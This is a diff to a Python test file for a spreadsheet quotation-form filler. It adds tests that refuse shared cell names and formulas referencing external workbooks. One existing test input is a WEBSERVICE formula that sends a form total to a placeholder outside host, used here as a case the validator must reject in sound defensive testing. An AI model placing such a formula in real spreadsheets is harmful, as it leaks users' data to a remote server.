@@ -18,7 +18,7 @@ from openpyxl import load_workbook
 from openpyxl.cell.cell import Cell
 from openpyxl.worksheet.worksheet import Worksheet
 from tests.documents import office, samples
-from tests.documents.forms import DETAIL, FRONT, Form, form
+from tests.documents.forms import DETAIL, FRONT, NAMES, Form, form
 
 from kis_estimator.documents import form as filling
 from kis_estimator.documents.form import fill_form
@@ -232,6 +232,11 @@ def test_a_cell_under_a_merged_area_is_refused() -> None:
     assert cells == {f"{FRONT}!C11", f"{FRONT}!B12", f"{FRONT}!C12"}
 
 
+def test_two_names_on_one_cell_are_refused() -> None:
+    found = refused(form(Form(names={"KIS_PanelCount": f"={FRONT}!{NAMES['KIS_Number']}"})))
+    assert found["FORM_NAMES_SHARED"][0]["names"] == ["KIS_Number", "KIS_PanelCount"]
+
+
 def test_a_formula_of_the_form_has_to_arrive_at_our_figure() -> None:
     found = refused(form(Form(sums={"KIS_VAT": "=INT(KIS_Supply*11/100)"})))
     totals = quotation().totals
@@ -283,6 +288,8 @@ PLAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main
             "xl/worksheets/_rels/sheet1.xml.rels: other.xlsx",
         ),
         (lambda _: form(Form(extra_formula='=WEBSERVICE("http://x/"&KIS_Total)')), "B24"),
+        (lambda _: form(Form(extra_formula="='[other.xlsx]Sheet1'!A1")), "B24"),
+        (lambda _: form(Form(extra_formula="=[other.xlsx]Sheet1!A1+1")), "B24"),
         (lambda _: form(Form(extra_formula="=[1]Sheet1!A1")), "B24"),
     ],
 )
